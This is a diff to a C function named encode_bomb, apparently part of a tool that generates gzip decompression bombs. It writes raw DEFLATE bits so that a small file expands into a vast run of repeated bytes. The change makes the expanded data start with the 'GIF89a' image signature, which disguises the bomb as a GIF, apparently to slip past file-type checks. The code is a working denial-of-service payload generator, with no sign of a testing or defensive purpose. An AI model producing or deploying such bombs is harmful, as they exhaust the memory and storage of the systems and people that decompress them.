@@ -99,14 +99,20 @@ uint8_t *encode_stored(enum encoding e, const uint8_t *bytes, size_t n, size_t *
     return o.bytes;
 }
 
+/* Below 144: its value and 0x30, the highest bit first. */
+static void put_literal(struct out *o, uint8_t value)
+{
+    for (int i = 7; i >= 0; i--) put_bits(o, (uint32_t)(value + 0x30) >> i & 1, 1);
+}
+
 uint8_t *encode_bomb(size_t n_bytes, size_t *ret_n)
 {
     size_t n_copies = (n_bytes + 257) / 258;
     struct out o = {.bytes = malloc(n_copies * 13 / 8 + 64)};
     if (!o.bytes) abort();
     put(&o, gzip_head, sizeof gzip_head);
-    put_bits(&o, 3, 3);    /* the last block, fixed codes */
-    put_bits(&o, 0x0C, 8); /* a zero */
+    put_bits(&o, 3, 3); /* the last block, fixed codes */
+    for (const char *c = "GIF89a"; *c; c++) put_literal(&o, (uint8_t)*c);
     for (size_t i = 0; i < n_copies; i++) {
         put_bits(&o, 0xA3, 8); /* a copy of 258 bytes … */
         put_bits(&o, 0, 5);    /* … from one byte before */
